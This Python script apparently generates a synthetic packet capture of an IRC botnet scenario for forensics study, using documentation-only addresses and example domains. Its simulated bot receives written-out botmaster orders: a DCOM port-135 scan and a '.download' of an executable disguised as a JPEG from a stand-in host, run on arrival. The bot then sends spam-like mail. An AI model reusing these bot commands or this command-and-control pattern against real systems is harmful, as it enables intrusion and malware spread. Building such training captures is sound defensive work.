# SPDX-License-Identifier: GPL-3.0-or-later
"""examples/irc-bot.pcap: a small network with one bot, which is there to be looked at. `python3 -m scenarios.example
FILE`, started in bench/, writes it; the same bytes every time.

Outside are only addresses kept for documentation (RFC 5737), and names kept for the same (RFC 2606)."""

import sys

from scenarios import talk
from scenarios.irc import Client
from scenarios.world import World, ns

START = 1_700_000_000 * 1_000_000_000  # 2023-11-14T22:13:20Z
HOSTS = ("10.1.6.204", "10.1.6.205", "10.1.6.206", "10.1.6.207")
BOT = HOSTS[2]
RESOLVER = "10.1.6.1"
CONTROLLER, STORE = "203.0.113.45", "198.51.100.20"
NAMES = {"www.example.com": "192.0.2.80", "news.example.org": "192.0.2.81", "chat.example.org": "192.0.2.67",
         "files.example.net": STORE, "time.example.org": "192.0.2.123", "updates.example.com": "192.0.2.90",
         "mx.example.com": "192.0.2.25", "mx.example.net": "198.51.100.25", "mx.example.org": "203.0.113.25"}


class Network(World):
    """A World whose outside is what NAMES says."""

    def outside(self):
        raise ValueError("the example has no other addresses than those for documentation")

    def site(self, name, count=1):
        return [NAMES[name]]


def people(world, end):
    """Three ordinary machines: pages, the clock, a chat, a program downloaded by its name."""
    for number, host in enumerate((HOSTS[0], HOSTS[1], HOSTS[3])):
        for name in ("time.example.org", "www.example.com", "news.example.org"):
            talk.resolve(world, world.start + ns(3 + number), host, name, server=RESOLVER)
        for n in range(3):
            talk.ntp(world, world.start + ns(5 + number + 64 * n), host, NAMES["time.example.org"])
        talk.https(world, world.start + ns(20 + 9 * number), host, "www.example.com", down=1500,
                   address=NAMES["www.example.com"])
        talk.fetch(world, world.start + ns(50 + 9 * number), host, "news.example.org", "/", talk.page(world.random, 1200),
                   address=NAMES["news.example.org"])
    time, address = talk.resolve(world, world.start + ns(15), HOSTS[0], "chat.example.org", server=RESOLVER)
    chat = Client(world, time, HOSTS[0], address, "petra", real="Petra", network="chat.example.org")
    chat.welcome(users=310, channels=40).join("#cycling", topic="Sunday: tour to the lake | be nice", members=["martin",
                                                                                                               "zoe"])
    for at, who, text in ((40, "martin", "morning! is anybody coming on sunday?"), (55, "petra",
                                                                                    "yes, if it does not rain"),
                          (70, "zoe", "there is a map at http://www.example.com/lake.html"), (90, "petra",
                                                                                              "thanks, that looks good")):
        chat.tcp.until(world.start + ns(at))
        if who == "petra":
            chat.say("#cycling", text)
        else:
            chat.hear(who, "#cycling", text)
    chat.tcp.until(end)
    chat.quit()
    talk.fetch(world, world.start + ns(100), HOSTS[3], "updates.example.com", "/editor-setup.exe",
               talk.program(world.random, 3000),
               "application/octet-stream", address=talk.resolve(world, world.start + ns(99), HOSTS[3],
                                                                "updates.example.com",
                                                               server=RESOLVER)[1])


def bot(world):
    """Login on a port that is none of IRC's, a keyed channel, an order to scan, an order to fetch, a little mail."""
    c = Client(world, world.start + ns(30), BOT, CONTROLLER, "DEU|49317", port=1863, user="qxvzt",
               network="irc.example.net")
    c.welcome(users=2417).join("#deploy", "s3same", members=["JPN|83120", "USA|55018", "GBR|10477", "FRA|90233"],
                               operator="@rix")
    c.tcp.wait(12)
    c.hear("rix", "#deploy", ".advscan dcom135 60 3 0 -r -s")
    c.say("#deploy", "[SCAN]: Random Port Scan started on 198.51.100.x:135 with a delay of 3 seconds using 60 threads.")
    time = c.now + ns(0.8)
    for n in range(120):
        target = f"198.51.100.{30 + n}"
        if n % 30 == 17:
            time = world.refused(time, BOT, target, 135)
        else:
            world.silent(time, BOT, target, 135, ())
        time += ns(0.25)
    c.tcp.until(time + ns(2))
    c.hear("rix", "#deploy", ".download http://files.example.net/img/sbr.jpg c:\\aaanz4.exe 1 -s")
    c.say("#deploy", "[DOWNLOAD]: Downloading URL: http://files.example.net/img/sbr.jpg to: c:\\aaanz4.exe.")
    time, address = talk.resolve(world, c.now + ns(0.3), BOT, "files.example.net", server=RESOLVER)
    time = talk.fetch(world, time, BOT, "files.example.net", "/img/sbr.jpg", talk.program(world.random, 12_000),
                      "image/jpeg",
                      address=address, agent="Mozilla/4.0 (compatible)")
    c.tcp.until(time)
    c.say("#deploy", "[DOWNLOAD]: Opened: c:\\aaanz4.exe.")
    time = c.now + ns(4)
    for n, end in enumerate(("com", "net", "org")):
        site = f"example.{end}"
        at = talk.lookup(world, time, BOT, site, "MX", [f"mx.{site}"], server=RESOLVER)
        at, address = talk.resolve(world, at, BOT, f"mx.{site}", server=RESOLVER)
        talk.smtp(world, at, BOT, address, helo=f"pc{n}.{site}", sender=f"offer{n}@{site}", recipients=(f"user{n}@{site}",),
                  size=900, banner=f"mx.{site}")
        time += ns(3)
    c.tcp.until(time)
    c.ping()
    return c.now


def write(path):
    world = Network("irc-bot", START)
    end = bot(world)
    people(world, end + ns(5))
    world.capture.save(path)


if __name__ == "__main__":
    write(sys.argv[1])
